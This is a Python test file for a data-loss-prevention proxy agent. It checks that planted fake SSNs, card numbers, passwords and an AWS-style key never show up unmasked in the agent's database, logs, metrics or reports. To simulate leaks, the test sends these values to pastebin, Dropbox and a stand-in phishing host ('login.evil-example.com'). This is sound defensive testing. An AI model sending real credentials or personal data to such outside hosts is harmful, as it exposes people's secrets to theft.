"""Privacy at rest: plant SSNs, card numbers, passwords, AWS keys and proxy-auth passwords in
traffic through a real agent, then search every byte the agent wrote - database and WAL,
logs, /metrics, the ECS export, usage reports - for them. Zero hits."""

from __future__ import annotations

import json
import subprocess
import time
from datetime import date, timedelta

from harness import DLP_AGENT, curl, start_agent, stop
from test_inline import send

SSN, SSN_BARE = "219-44-1234", "219441234"
CARD, CARD_BARE = "4539 1488 0343 6467", "4539148803436467"
PASSWORD = "Spring2026!Tulips"
AWS = "AKIAQ3EGRWKJ7NPLXT2Y"
PROXY_PASSWORD = "proxy-Secret-77"
SECRETS = [SSN, SSN_BARE, CARD, CARD_BARE, PASSWORD, AWS, PROXY_PASSWORD, "Tulips", "NPLXT2Y"]


def test_nothing_sensitive_is_written_anywhere(tmp_path, fakenet):
    d = tmp_path / "p"
    d.mkdir()
    (d / "directory.yaml").write_text("departments: {finance: {name: Finance}}\nusers: {jdoe: {department: finance}}\n")
    key = d / "hmac.key"
    key.write_bytes(b"k" * 32)
    key.chmod(0o600)
    a = start_agent(d, fakenet, args=["--set", "proxyauth=any", "--directory", str(d / "directory.yaml"),
                                      "--hmac-key-file", str(key)])
    auth = ("jdoe", PROXY_PASSWORD)
    try:
        hdr = {"Content-Type": "application/json", "Accept": "application/json"}
        send(a, "POST", "https://api.x.com/2/tweets", json.dumps({"text": f"ssn {SSN} card {CARD}"}).encode(), hdr, auth=auth)
        send(a, "POST", "https://pastebin.com/api/api_post.php",
             f"api_option=paste&api_paste_code=aws_access_key_id%3D{AWS}".encode(),
             {"Content-Type": "application/x-www-form-urlencoded"}, auth=auth)
        send(a, "POST", "https://login.evil-example.com/signin",
             f"email=jdoe%40westchestergov.com&password={PASSWORD}".encode(),
             {"Content-Type": "application/x-www-form-urlencoded"}, auth=auth)
        send(a, "POST", "https://forms.example.net/submit", f"ssn={SSN_BARE}&card={CARD_BARE}".encode(),
             {"Content-Type": "application/x-www-form-urlencoded"}, auth=auth)
        curl(a, ["-H", "Content-Type: text/plain", "--data-binary", f"SSN {SSN}", "https://content.dropboxapi.com/2/files/upload"],
             auth=auth)
        time.sleep(1.5)
        metrics = a.metrics()
    finally:
        stop(a.proc)   # flushes usage and closes the database
    written = {"metrics": metrics.encode()}
    for f in d.rglob("*"):
        if f.is_file() and "ca" not in f.relative_to(d).parts:
            written[str(f)] = f.read_bytes()
    for fmt in ("jsonl", "ecs", "table"):
        out = subprocess.run([DLP_AGENT, "incidents", "list", "--db", str(a.db), "--format", fmt],
                             capture_output=True, check=True).stdout
        written[f"incidents {fmt}"] = out
    for fmt in ("html", "csv", "json"):
        out_file = d / f"report.{fmt}"
        p = subprocess.run([DLP_AGENT, "report", "usage", "--db", str(a.db), "--department", "finance",
                            "--from", str(date.today() - timedelta(days=1)), "--to", str(date.today() + timedelta(days=1)), "--format", fmt, "--out", str(out_file),
                            "--directory", str(d / "directory.yaml")], capture_output=True)
        if p.returncode == 0:
            written[f"report {fmt}"] = out_file.read_bytes()
    hits = [(where, s) for where, data in written.items() for s in SECRETS if s.encode() in data]
    assert not hits, hits
    # the evidence is there, masked: the search looked at the right bytes
    everything = b"".join(written.values())
    assert b"***-**-1234" in everything and b"6467" in everything
    assert any(k.startswith("report") for k in written), "no usage report could be produced"
